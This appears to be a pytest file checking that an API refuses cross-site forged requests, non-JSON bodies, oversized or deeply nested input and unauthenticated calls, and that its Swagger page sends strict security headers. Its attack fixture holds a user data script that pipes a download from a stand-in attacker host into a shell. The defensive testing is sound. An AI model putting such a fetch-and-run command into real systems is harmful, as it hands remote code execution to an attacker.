"""What the API function refuses before routing (functions/handlers/api/edge.py; docs/compatibility.md#http-conventions,
docs/compatibility.md#auth): over HTTP through the local gateway, and through the handler for what the gateway never
sends (a token route without the authorizer's principal)."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import socket
from urllib.parse import urlsplit

import pytest

from local.gateway import LambdaContext, proxy_event
from tests.conftest import setup_client

ENVIRONMENT = {
    "environment_name": "csrf",
    "instance_size": "t3.small",
    "min_cluster_count": 0,
    "operating_system": "linux",
}
# A user data script, the payload of the cross-site attack the issue describes.
ATTACK = {**ENVIRONMENT, "user_data_template": base64.b64encode(b"#!/bin/sh\ncurl evil.example | sh\n").decode()}


def clusters() -> list[str]:
    return setup_client("ecs").list_clusters()["clusterArns"]


def refused(response, status: int, code: int) -> str:
    assert response.status_code == status, response.text
    body = response.json()
    assert body["error_code"] == code
    assert response.headers["Content-Type"].startswith("application/json")
    return body["message"]


@pytest.mark.parametrize(
    "kind",
    ["multipart/form-data", "application/x-www-form-urlencoded", "text/plain", "no Content-Type"],
)
def test_a_body_that_is_not_json_is_415_and_creates_nothing(api, kind):
    # What an HTML form on any web page can send without a CORS preflight.
    if kind == "multipart/form-data":
        response = api.post("/environment/", files={key: (None, value) for key, value in ATTACK.items()})
    elif kind == "application/x-www-form-urlencoded":
        response = api.post("/environment/", data=ATTACK)
    elif kind == "text/plain":
        response = api.post("/environment/", data=json.dumps(ATTACK), headers={"Content-Type": "text/plain"})
    else:
        response = api.post("/environment/", data=json.dumps(ATTACK).encode())
        assert "Content-Type" not in response.request.headers
    message = refused(response, 415, 1)
    assert "application/json" in message
    assert clusters() == []
    assert api.get("/environment/").json() == []


def test_a_json_body_with_a_charset_passes(api):
    body = json.dumps({"entity_type": "environment", "entity_id": "e1", "key": "name", "value": "a"})
    response = api.post("/tag", data=body, headers={"Content-Type": "application/json; charset=utf-8"})
    assert response.status_code == 201, response.text


def test_the_415_covers_routes_whose_body_is_ignored(api):
    response = api.request("PUT", "/admin/scale/anything", data="x=1", headers={"Content-Type": "text/plain"})
    refused(response, 415, 1)


def test_cross_site_writes_are_403_and_create_nothing(api):
    response = api.post("/environment/", json=ATTACK, headers={"Sec-Fetch-Site": "cross-site"})
    message = refused(response, 403, 21)
    assert "Sec-Fetch-Site: cross-site" in message
    assert clusters() == []
    for method in ("PUT", "DELETE"):
        refused(api.request(method, "/environment/e1", json={}, headers={"Sec-Fetch-Site": "cross-site"}), 403, 21)


def test_cross_site_reads_and_same_site_writes_pass(api):
    assert api.get("/environment/", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 200
    for site in ("same-origin", "same-site", "none"):
        tag = {"entity_type": "environment", "entity_id": "e1", "key": "name", "value": site}
        assert api.post("/tag", json=tag, headers={"Sec-Fetch-Site": site}).status_code == 201, site


def test_the_original_cli_and_terraform_requests_pass(api):
    """The original's clients (Go) send every body as JSON with `Content-Type: application/json` (the original
    server answered 415 otherwise) and no `Sec-Fetch-Site`; a request with nothing to say may carry `null` or `""`
    (`admin scale`), on GET and DELETE too."""
    go = {"User-Agent": "Go-http-client/1.1", "Content-Type": "application/json", "Accept-Encoding": "gzip"}
    environment = api.post("/environment/", data=json.dumps(ENVIRONMENT), headers=go)
    assert environment.status_code == 200, environment.text
    environment_id = environment.json()["environment_id"]
    assert api.get(f"/tag/?type=environment&fuzz={environment_id}", data="null", headers=go).status_code == 200
    assert api.get(f"/environment/{environment_id}", data="null", headers=go).status_code == 200
    dockerrun = base64.b64encode(b'{"containerDefinitions": [{"name": "c", "image": "busybox", "memory": 64}]}')
    deploy = api.post("/deploy/", data=json.dumps({"deploy_name": "d", "dockerrun": dockerrun.decode()}), headers=go)
    assert deploy.status_code == 200, deploy.text
    assert api.request("PUT", f"/admin/scale/{environment_id}", data='""', headers=go).status_code == 200
    assert api.post("/admin/sql", data='{"version": "latest"}', headers=go).status_code == 204
    tag = {"entity_type": "environment", "entity_id": environment_id, "key": "owner", "value": "ops"}
    assert api.post("/tag/", data=json.dumps(tag), headers=go).status_code == 201
    assert api.delete("/tag/", data=json.dumps(tag), headers=go).status_code == 204
    assert api.delete(f"/deploy/{deploy.json()['deploy_id']}", data="null", headers=go).status_code == 200


def test_a_body_over_1_mb_is_413_code_1(api):
    body = json.dumps({**ENVIRONMENT, "user_data_template": "A" * (1024 * 1024)})
    message = refused(api.post("/environment/", data=body, headers={"Content-Type": "application/json"}), 413, 1)
    assert "1048576 bytes" in message
    assert clusters() == []


def test_deeply_nested_json_is_400_code_1(api):
    for body in ("[" * 100_000, "[" * 5_000 + "]" * 5_000, '{"a":' * 5_000 + "1" + "}" * 5_000):
        response = api.post("/environment/", data=body, headers={"Content-Type": "application/json"})
        message = refused(response, 400, 1)
        assert message.startswith("Failed to decode request body"), message


def test_the_401_sets_no_basic_auth_prompt(api):
    response = api.anonymous.get(api.url + "tag?type=environment")
    assert response.status_code == 401
    assert "WWW-Authenticate" not in response.headers
    assert response.text == "401: Not Authorized"


def test_a_token_route_without_the_authorizer_principal_is_the_gateway_s_401(stack):
    from handlers import api

    event = proxy_event("POST", "/environment", body=json.dumps(ENVIRONMENT).encode(), principal_id=None)
    event["headers"]["Content-Type"] = "application/json"
    response = api.handler(event, LambdaContext())
    assert response["statusCode"] == 401
    assert response["body"] == "401: Not Authorized"
    assert response["multiValueHeaders"]["Content-Type"] == ["text/plain"]
    assert clusters() == []
    # With the principal API Gateway passes once the authorizer allowed the request, the same request passes.
    event["requestContext"]["authorizer"] = {"principalId": "layer0"}
    assert api.handler(event, LambdaContext())["statusCode"] == 200


def test_public_routes_need_no_principal(stack):
    from handlers import api

    for path in ("/health", "/admin/config", "/openapi.json", "/swagger"):
        assert api.handler(proxy_event("GET", path, principal_id=None), LambdaContext())["statusCode"] == 200, path


def _raw_request(api, head: str) -> bytes:
    """A request as bytes on a socket: `requests` always sends a valid Content-Length."""
    address = urlsplit(api.url)
    with socket.create_connection((address.hostname, address.port), timeout=30) as connection:
        connection.sendall(head.encode())
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return answer


@pytest.mark.parametrize(
    "header,status",
    [
        ("Content-Length: 10485761", 413),  # over API Gateway's 10 MB, refused before any of it is read
        ("Content-Length: twelve", 400),
        ("Content-Length: -5", 400),
        ("Transfer-Encoding: chunked", 411),
    ],
)
def test_the_local_gateway_refuses_a_body_it_cannot_size(api, header, status):
    head = f"POST /environment/ HTTP/1.1\r\nHost: l0\r\nAuthorization: Basic {api.token}\r\n{header}\r\n\r\n"
    answer = _raw_request(api, head)
    status_line, _, rest = answer.partition(b"\r\n")
    assert status_line.split()[1] == str(status).encode(), answer[:300]
    assert b"Connection: close" in rest.split(b"\r\n\r\n")[0]
    body = json.loads(rest.split(b"\r\n\r\n", 1)[1])
    assert body["error_code"] == 21
    assert clusters() == []


def test_swagger_and_openapi_are_public(api):
    assert api.anonymous.get(api.url + "openapi.json").json()["openapi"].startswith("3.1")
    assert "SwaggerUIBundle" in api.anonymous.get(api.url + "swagger").text


def test_the_swagger_page_runs_only_its_own_scripts_and_cannot_be_framed(api):
    response = api.anonymous.get(api.url + "swagger")
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    policy = dict(
        (directive.split(" ", 1) + [""])[:2] for directive in response.headers["Content-Security-Policy"].split("; ")
    )
    assert policy["default-src"] == "'none'"
    assert policy["frame-ancestors"] == "'none'"
    # The page declares UTF-8 (requests would read text/html as Latin-1), and CSP hashes its scripts' UTF-8.
    scripts = re.findall(r"<script>(.*?)</script>", response.content.decode(), re.DOTALL)
    assert len(scripts) == 2  # Swagger UI's bundle and its start-up, both inline
    hashes = {f"'sha256-{base64.b64encode(hashlib.sha256(s.encode()).digest()).decode()}'" for s in scripts}
    assert set(policy["script-src"].split()) == hashes  # no 'unsafe-inline', nothing else
    assert "http" not in response.headers["Content-Security-Policy"]  # nothing from outside


def test_every_answer_tells_browsers_not_to_sniff(api):
    for response in (api.get("/environment/"), api.get("/environment/nope"), api.post("/tag", data="x")):
        assert response.headers["X-Content-Type-Options"] == "nosniff", response.status_code
